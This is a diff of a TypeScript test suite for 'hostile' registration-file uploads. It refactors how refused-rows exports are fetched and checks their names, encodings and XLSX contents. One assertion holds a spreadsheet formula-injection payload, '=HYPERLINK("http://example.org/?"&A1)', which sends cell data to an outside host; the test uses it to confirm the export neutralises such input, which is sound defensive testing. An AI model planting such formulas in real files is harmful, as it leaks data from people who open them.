@@ -1,5 +1,5 @@
-import type { Response } from 'supertest';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { refusedRowsOf } from '../../test/support/exports.ts';
 import { makeFrame } from '../../test/support/fixtures.ts';
 import { type Client, startPlatform, type TestPlatform } from '../../test/support/platform.ts';
 import { fileOf, header, many, registrationRow as row } from '../../test/support/registration-files.ts';
@@ -9,13 +9,6 @@ import { loadPilotGeography } from '../seeding.ts';
 
 const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
 const columns = header.split(',');
-
-const bytesOf = (response: Response, done: (error: Error | null, bytes: Buffer) => void): void => {
-  const parts: Buffer[] = [];
-  // The parser is handed the stream itself, whatever its type says.
-  const stream = response as unknown as NodeJS.ReadableStream;
-  stream.on('data', (part: Buffer) => parts.push(part)).on('end', () => done(null, Buffer.concat(parts)));
-};
 
 describe('a hostile file', () => {
   let platform: TestPlatform;
@@ -133,7 +126,7 @@ describe('a hostile file', () => {
       [14, 'Given name: formula_in_name'],
     ]);
     expect(file).toMatchObject({ state: 'done', totalRows: 15, acceptedRows: 3, refusedRows: 12 });
-    const { text } = await officer.get(`/v1/registration-files/${file.id}/refused-rows/file`).expect(200);
+    const { text } = await refusedRowsOf(platform, officer, file.id);
     const back = await cellsOf(text);
     expect(text).toContain(`'=HYPERLINK`);
     expect(back[1]?.[4]).toBe('=HYPERLINK("http://example.org/?"&A1)');
@@ -164,12 +157,9 @@ describe('a hostile file', () => {
       ['fr', 'windows-1252'],
       ['ar', 'utf-8'],
     ] as const) {
-      const answer = await officer
-        .get(`/v1/registration-files/${file.id}/refused-rows/file?language=${language}`)
-        .buffer(true)
-        .parse(bytesOf);
-      expect(answer.headers['content-type']).toContain(encoding);
-      const [, back] = await cellsOf(answer.body);
+      const { content } = await refusedRowsOf(platform, officer, file.id, language);
+      expect(new TextDecoder(encoding, { fatal: true }).decode(content)).toContain('Noël');
+      const [, back] = await cellsOf(content);
       expect(back?.[4]).toBe('Noël');
       expect(back?.at(-1)).toMatch(language === 'fr' ? /Écrivez/ : /[\u0600-\u06FF]/);
     }
@@ -179,10 +169,9 @@ describe('a hostile file', () => {
     const cells = [...many(2), changed(3, 'Sex', '?').replaceAll('"', '')].map((text) => text.split(','));
     const file = await take(await written({ kind: 'xlsx' }, [columns, ...cells]), XLSX);
     expect(file).toMatchObject({ state: 'done', format: { kind: 'xlsx' }, acceptedRows: 2, refusedRows: 1 });
-    const answer = await officer.get(`/v1/registration-files/${file.id}/refused-rows/file?language=fr`).buffer(true).parse(bytesOf);
-    expect(answer.headers['content-type']).toBe(XLSX);
-    expect(answer.headers['content-disposition']).toContain('refused-rows.xlsx');
-    const [first, second] = await cellsOf(answer.body, XLSX);
+    const { name, content } = await refusedRowsOf(platform, officer, file.id, 'fr');
+    expect(name).toBe('refused-rows.xlsx');
+    const [first, second] = await cellsOf(content, XLSX);
     expect(first).toEqual([...columns, 'Motifs']);
     expect(second?.slice(0, 17)).toEqual(cells[2]);
     expect(second?.[17]).toMatch(/^Sex: /);
